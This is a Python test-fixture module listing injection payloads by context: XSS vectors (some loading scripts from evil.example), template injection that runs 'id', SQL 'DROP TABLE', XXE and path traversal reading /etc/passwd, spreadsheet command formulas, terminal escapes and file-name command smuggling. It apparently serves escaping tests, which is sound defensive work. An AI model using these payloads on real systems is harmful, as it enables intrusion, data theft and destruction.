"""Texts that would run if a page let them: by the place in a page, a file or a program where they would.

Each makes itself known: `owned()` does not exist, so that a browser complains; addresses lead to evil.example. The lists are
ours; a test wants sixty at least. `{{7*191}}` gives 1337 where a template compiles it.
"""

PAYLOADS = {
    "element": [
        "<script>owned()</script>", "<script src=https://evil.example/x.js></script>", "<img src=x onerror=owned()>", "<svg onload=owned()>",
        "<svg><script>owned()</script></svg>", "<body onload=owned()>", "<iframe srcdoc='<script>parent.owned()</script>'>",
        "<iframe src=javascript:owned()>", "<object data=javascript:owned()>", "<embed src=//evil.example>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><input autofocus onfocus=owned()>", "<details open ontoggle=owned()>", "<video><source onerror=owned()>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=owned()>", "<noscript><p title=\"</noscript><img src=x onerror=owned()>\">",
        "<template><script>owned()</script></template>", "<x/onclick=owned()>", "<<script>owned()//<</script>", "<scr\u0131pt>owned()</scr\u0131pt>",
        "<a href=\"javascript:owned()\" autofocus>x</a>", "<style>@import '//evil.example/x.css';</style>", "<marquee onstart=owned()>",
    ],
    "out of an element": ["</title><script>owned()</script>", "</textarea><script>owned()</script>", "</style><script>owned()</script>",
                          "--><script>owned()</script><!--", "]]><script>owned()</script>", "</h1></main></body></html><script>owned()</script>"],
    "attribute": ["\" onmouseover=owned() x=\"", "' onmouseover=owned() x='", "\" autofocus onfocus=owned() \"", "x onload=owned()", "` onerror=owned() `",
                  "\"><svg onload=owned()>", "&quot; onclick=&quot;owned()", "\u2028\" onclick=owned() \"", "\" style=\"background:url(//evil.example)"],
    "address": ["javascript:owned()", "JaVaScRiPt:owned()", "java\tscript:owned()", "data:text/html,<script>owned()</script>", "//evil.example/x",
                "\\\\evil.example\\x", "vbscript:owned()", "[x](javascript:owned())", "![x](https://evil.example/x.png)", "<javascript:owned()>",
                "[x]: javascript:owned()", "../../../../etc/passwd", "http://evil.example@a.example/"],
    "string in a script": ["';owned();//", "\";owned();//", "\\';owned();//", "\\u003cscript\\u003eowned()\\u003c/script\\u003e", "${owned()}", "`;owned();`",
                           "\u2028owned()\u2029", "__proto__", "constructor.constructor('owned()')()"],
    "data in a page": ["</script><script>owned()</script>", "<!--<script>", "</SCRIPT ><img src=x onerror=owned()>", "{\"__proto__\": {\"owned\": 1}}", "]}</script>"],
    "template": ["{{7*191}}", "{% if x %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{config}}", "{#", "#{7*191}", "<%= 7*191 %>", "${7*191}", "{{constructor.constructor('owned()')()}}"],
    "style": ["expression(owned())", "</style>", "red;background:url(//evil.example)", "}*{display:none}"],
    "drawing": ["</svg><script>owned()</script>", "</text><a xlink:href='javascript:owned()'><text>x", "<![CDATA[<script>owned()</script>]]>"],
    "table in a spreadsheet": ["=HYPERLINK(\"http://evil.example\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "a,b\"c", "\r\n=1+1", ";=1+1"],
    "calendar": ["x\r\nEND:VEVENT\r\nBEGIN:VALARM", "x\\nATTACH:file:///etc/passwd", "a;b,c\\d", "ORGANIZER:mailto:evil@evil.example"],
    "feed": ["]]></summary><link href='//evil.example'/>", "&lol;", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "<?xml-stylesheet href='//evil.example'?>"],
    "database": ["'; DROP TABLE incidents; --", "\" OR 1=1 --", "'||(SELECT sql FROM sqlite_master)||'"],
    "terminal": ["\x1b]0;owned\x07", "\x1b[2J", "\x9b31m", "\u202egnp.exe", "a\u2066b\u2069", "\x08\x08\x08ok", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07"],
    "annotation of a build": ["::error::owned", "%0A::set-output name=x::owned", "::add-mask::x", "\n::stop-commands::x", "##vso[task.setvariable variable=x]owned", "]]>", "a%25b"],
    "file name": ["../x", "con", "a/b", "a\\b", ".", "x\x00y", "-rf", "$(id)", "`id`", "|id", "*"],
}
ALL = [text for texts in PAYLOADS.values() for text in texts]
assert len(ALL) == len(set(ALL)) >= 60


def sample(n: int) -> list[str]:
    """Some of each kind, the same in every run."""
    return [texts[i] for i in range(n) for texts in PAYLOADS.values() if i < len(texts)]
